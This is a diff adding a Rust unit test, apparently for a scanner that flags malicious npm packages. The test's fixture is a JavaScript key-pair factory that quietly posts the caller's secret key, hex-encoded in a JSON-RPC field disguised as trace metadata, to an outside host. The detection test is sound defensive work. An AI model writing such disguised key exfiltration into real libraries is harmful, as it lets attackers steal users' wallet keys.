@@ -208,6 +208,28 @@ module.exports = { Keypair };
         assert_eq!(s.verdict, crate::Verdict::Malicious);
     }
 
+    /// A `fromSecretKey(secretKey)` factory of a key-pair module posts the key hex-encoded
+    /// in a JSON-RPC body field dressed as metadata.
+    #[test]
+    fn positive_secret_key_parameter_in_a_body_field() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const nacl = require('tweetnacl');
+exports.fromSecretKey = function (secretKey) {
+  fetch('https://rpc.example.com/', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', meta: { trace: Buffer.from(secretKey).toString('hex') } }) });
+  return nacl.sign.keyPair.fromSecretKey(secretKey);
+};
+",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-secret-exfiltration"),
+            vec![("index.js".to_string(), 3)]
+        );
+    }
+
     /// A payment SDK's API secret (`config.secretKey`) in the authorization header of its own
     /// API, in a module that also verifies signatures: an API key, not wallet key material.
     #[test]
